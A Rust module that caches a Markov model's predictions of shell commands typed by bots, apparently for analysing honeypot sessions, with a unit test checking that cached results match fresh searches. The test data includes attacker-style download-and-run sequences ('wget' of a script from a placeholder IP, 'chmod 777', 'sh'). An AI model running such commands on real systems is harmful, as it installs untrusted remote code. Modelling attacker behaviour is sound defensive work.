//! [`Markov::predict_in`]'s guesses kept per thread by context: a prediction is a pure
//! function of the model's index and settings and of the session's context, and bots typing
//! the same script reach the same contexts over and over (the corpus's 75,000 commands come
//! from well under a thousand normalized contexts), so the search (`search.rs`) runs once
//! for each of them while it stays cached.
//!
//! The key holds everything [`Markov::search`] reads: the index's build id (a retrained or
//! reloaded model is another), `k`, every setting, whether the session types like a person,
//! and the context itself ([`SessionContext::write_key`]).

use std::cell::RefCell;

use super::index::Index;
use super::{Markov, Prediction};
use crate::memo::Memo;
use crate::models::context::SessionContext;

/// Most contexts kept per thread.
const MAX_ENTRIES: usize = 2048;
/// Most key bytes kept per thread.
const MAX_BYTES: usize = 2 << 20;
/// Longest key kept, in bytes (a context of long commands is searched each time).
const MAX_KEY: usize = 16 << 10;

thread_local! {
    static GUESSES: RefCell<Memo<Vec<Prediction>>> =
        RefCell::new(Memo::new(MAX_ENTRIES, MAX_BYTES));
}

impl Markov {
    /// [`Markov::search`], answered from the thread's cache when the same search ran before.
    pub(super) fn cached_search(
        &self,
        index: &Index,
        context: &SessionContext,
        k: usize,
    ) -> Vec<Prediction> {
        if index.id == 0 {
            return self.search(index, context, k);
        }
        let key = self.search_key(index, context, k);
        if key.len() > MAX_KEY {
            return self.search(index, context, k);
        }
        crate::memo::cached(&GUESSES, &key, || self.search(index, context, k))
            .as_ref()
            .clone()
    }

    /// What [`Markov::search`] reads, as bytes.
    fn search_key(&self, index: &Index, context: &SessionContext, k: usize) -> Vec<u8> {
        let mut key = Vec::with_capacity(512);
        for number in [
            index.id,
            k as u64,
            self.order as u64,
            self.backoff.to_bits(),
            self.program_weight.to_bits(),
            self.escape.to_bits(),
            self.cache_weight.to_bits(),
            self.lost_below.to_bits(),
            self.human_gap.to_bits(),
            self.typo_weight.to_bits(),
        ] {
            key.extend_from_slice(&number.to_le_bytes());
        }
        key.push(u8::from(context.human_like(self.human_gap)));
        context.write_key(&mut key);
        key
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::models::context::Login;
    use crate::models::normalize::{Normalized, normalize_line};

    fn commands(lines: &[&str]) -> Vec<Normalized> {
        lines.iter().flat_map(|l| normalize_line(l)).collect()
    }

    /// Every prefix of each session, pushed with the given times.
    fn contexts(login: &Login, session: &[Normalized], times: &[f64]) -> Vec<SessionContext> {
        let mut context = SessionContext::new(login);
        let mut out = vec![context.clone()];
        for (command, at) in session.iter().zip(times.iter().cycle()) {
            context.push(command, Some(*at));
            out.push(context.clone());
        }
        out
    }

    #[test]
    fn cached_guesses_are_the_searched_ones_for_every_context_and_setting() {
        let a = commands(&[
            "cd /tmp",
            "wget http://198.51.100.9/x.sh",
            "chmod 777 x.sh",
            "sh x.sh",
            "uname -a",
        ]);
        let b = commands(&["uname -a", "cat /proc/cpuinfo", "free -m", "ls -la", "w"]);
        let mut model = Markov::trained(3, [a.as_slice(), b.as_slice()]);
        let login = Login {
            client: Some("SSH-2.0-Go".into()),
            username: Some("root".into()),
            password: Some("x".into()),
        };
        let mixed = commands(&[
            "uname -a",
            "cd /tmp",
            "wget http://203.0.113.1/y.sh",
            "chmod 777 y.sh",
            "ls -la",
            "lss -la",
            "free -m",
        ]);
        let mut checked = 0;
        for round in 0..3 {
            if round == 1 {
                model.backoff = 0.2;
            }
            if round == 2 {
                // Retrained: another index, whose guesses are not the old ones'.
                model.train(&mixed);
            }
            for session in [&a, &b, &mixed] {
                for times in [&[1.0, 2.0][..], &[1.0, 9.0, 30.0][..]] {
                    for context in contexts(&login, session, times).into_iter().chain(contexts(
                        &Login::default(),
                        session,
                        times,
                    )) {
                        for k in [1, 3] {
                            let searched = model.search(model.index(), &context, k);
                            assert_eq!(model.predict_in(&context, k), searched);
                            assert_eq!(model.predict_in(&context, k), searched);
                            checked += 1;
                        }
                    }
                }
            }
        }
        assert!(checked > 100);
    }
}
